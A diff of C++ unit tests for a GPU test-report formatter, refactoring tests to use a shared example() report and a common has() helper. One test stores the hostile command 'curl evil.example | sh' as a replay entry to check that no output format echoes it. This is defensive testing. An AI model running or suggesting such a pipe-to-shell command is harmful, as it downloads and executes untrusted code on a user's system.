@@ -9,13 +9,10 @@
 
 #include "reports/base/words.hpp"
 #include "reports/testing/example_launch.hpp"
+#include "reports/testing/said.hpp"
 
 namespace tidemark::reports {
 namespace {
-
-bool has(const std::string& text, std::string_view part) {
-  return text.find(part) != std::string::npos;
-}
 
 std::string first_line(const std::string& text) { return text.substr(0, text.find('\n')); }
 
@@ -40,7 +37,7 @@ std::string shown_alone(LaunchRecord launch, const GpuRecord& gpu, const Outcome
 TEST(Show, BeginsWithTheResultAndCountsThatAddUpToPlanned) {
   EXPECT_EQ(first_line(show(assemble(passing_journals(), {}), {})),
             "RESULT: PASS  3 cases x 2 GPUs: 6 pass (6 planned)");
-  EXPECT_EQ(first_line(show(assemble(example_journals(), {}), {})),
+  EXPECT_EQ(first_line(show(example(), {})),
             "RESULT: FAIL  3 cases x 2 GPUs: 5 pass, 1 fail (6 planned)");
 }
 
@@ -82,7 +79,7 @@ TEST(Show, NothingButSkipsIsNoPass) {
 }
 
 TEST(Show, AFailureSaysWhereWhatAndHowToReplay) {
-  EXPECT_TRUE(has(show(assemble(example_journals(), {}), {}),
+  EXPECT_TRUE(has(show(example(), {}),
                   "\nFAIL zfill.corner  on GPU 1 (node07.acme.example, slot 1, GPU-77aa88bb)\n"
                   "     1 of 12 rows moved wrong bytes\n"
                   "     row 3 {\"box\":[32,4]}: byte: element (3, 7): expected 0x00, got 0x5a; "
@@ -92,7 +89,7 @@ TEST(Show, AFailureSaysWhereWhatAndHowToReplay) {
 }
 
 TEST(Show, NoFormatHasTheCommandThatAReportStored) {
-  Report report = assemble(example_journals(), {});
+  Report report = example();
   report.strings[report.results[3].replay] = "curl evil.example | sh";
   for (const Format format : {Format::terminal, Format::json, Format::markdown, Format::csv,
                               Format::junit, Format::html}) {
@@ -137,11 +134,11 @@ TEST(Show, TheVirtualDeviceIsNamedInTheFirstLineAndBesideEveryNumber) {
   EXPECT_TRUE(has(text, "\nVIRTUAL device: nothing here was measured on a GPU\n"));
   EXPECT_TRUE(has(text, "\nVIRTUAL: the numbers below are of a model on a CPU, not of a GPU\n"));
   EXPECT_TRUE(has(text, "device VIRTUAL"));
-  EXPECT_FALSE(has(show(assemble(example_journals(), {}), {}), "VIRTUAL"));
+  EXPECT_FALSE(has(show(example(), {}), "VIRTUAL"));
 }
 
 TEST(Show, TheTableHasALineForEachGpuAndTheSlowestRank) {
-  const std::string text = show(assemble(example_journals(), {}), {});
+  const std::string text = show(example(), {});
   EXPECT_TRUE(has(text,
                   "gemm.distributed.speed\n"
                   "  metric  GPU  median  mad  n  min..max  unit     SM MHz    W   C\n"
@@ -153,7 +150,7 @@ TEST(Show, TheTableHasALineForEachGpuAndTheSlowestRank) {
 }
 
 TEST(Show, GpusWhoseNumbersDoNotCountAreOneLineAVerdict) {
-  Report report = assemble(example_journals(), {});
+  Report report = example();
   for (ResultRow& result : report.results) result.verdict = Verdict::fail;
   EXPECT_TRUE(
       has(show(report, {}), "  not a pass on GPUs 0-1 (fail): their numbers do not count\n"))
@@ -161,13 +158,13 @@ TEST(Show, GpusWhoseNumbersDoNotCountAreOneLineAVerdict) {
 }
 
 TEST(Show, ATableThatFindsNoRoomLeavesItsSensorsOutAndSaysSo) {
-  const std::string text = show(assemble(example_journals(), {}), {.columns = 45});
+  const std::string text = show(example(), {.columns = 45});
   EXPECT_TRUE(has(text,
                   "  metric GPU median mad n min..max unit\n"
                   "  rate     0    701   1 3 700..702 TFLOP/s\n"))
       << text;
   EXPECT_TRUE(has(text, "(no room for SM MHz, W and C:")) << text;
-  EXPECT_FALSE(has(show(assemble(example_journals(), {}), {.columns = 80}), "no room"));
+  EXPECT_FALSE(has(show(example(), {.columns = 80}), "no room"));
 }
 
 TEST(Show, TheSlowestRankIsTakenSampleBySample) {
@@ -393,7 +390,7 @@ TEST(Show, NotesOnRowsStandOneByOneInTheirOrder) {
 }
 
 TEST(Show, SaysWhatItWasMadeOn) {
-  const std::string text = show(assemble(example_journals(), {}), {});
+  const std::string text = show(example(), {});
   for (const char* part :
        {"run 3f1c0000-0000-4000-8000-000000000001  2026-09-01T00:00:00Z",
         "level quick  seed 0xfedcba9876543210  device cuda  ranks 2 of 2 reported",
@@ -465,7 +462,7 @@ TEST(Show, NothingOfAReportDrivesTheTerminalAndOnlyALongWordIsWiderThanAPage) {
 }
 
 TEST(Show, IsAsWideAsTheTerminal) {
-  const Report report = assemble(example_journals(), {});
+  const Report report = example();
   EXPECT_TRUE(has(show(report, {.columns = 200}), "1,024 wrong bytes from offset 227\n"));
   const std::string narrow = show(report, {.columns = 60});
   EXPECT_TRUE(has(narrow, "element (3, 7): expected\n       0x00, got 0x5a; 1,024 wrong"))
@@ -475,19 +472,19 @@ TEST(Show, IsAsWideAsTheTerminal) {
 }
 
 TEST(Show, PassesAreListedOnlyWhenAsked) {
-  const Report report = assemble(example_journals(), {});
+  const Report report = example();
   EXPECT_FALSE(has(show(report, {}), "PASS load.tile.2d"));
   EXPECT_TRUE(has(show(report, {.all = true}), "PASS load.tile.2d  on 2 GPUs: 0-1"));
 }
 
 TEST(Show, ColourIsThereOnlyWhenAsked) {
-  const Report report = assemble(example_journals(), {});
+  const Report report = example();
   EXPECT_FALSE(has(show(report, {}), "\x1b"));
   EXPECT_TRUE(show(report, {.colour = true}).starts_with("\x1b[31mRESULT: FAIL\x1b[0m  3 cases"));
 }
 
 TEST(Show, LongListsAreCappedUnlessAllIsAskedFor) {
-  Report report = assemble(example_journals(), {});
+  Report report = example();
   const ResultRow failure = report.results[3];
   const std::uint32_t first = static_cast<std::uint32_t>(report.strings.size());
   for (std::uint32_t i = 0; i < 40; ++i) {
@@ -510,7 +507,7 @@ TEST(Show, LongListsAreCappedUnlessAllIsAskedFor) {
 }
 
 TEST(ShowJson, HoldsTheWholeReportWithTextInPlaceOfIndices) {
-  const std::string text = show(assemble(example_journals(), {}), {.format = Format::json});
+  const std::string text = show(example(), {.format = Format::json});
   const nlohmann::json json = nlohmann::json::parse(text);
   EXPECT_EQ(json["format"], "tidemark-report");
   EXPECT_EQ(json["result"], "FAIL");
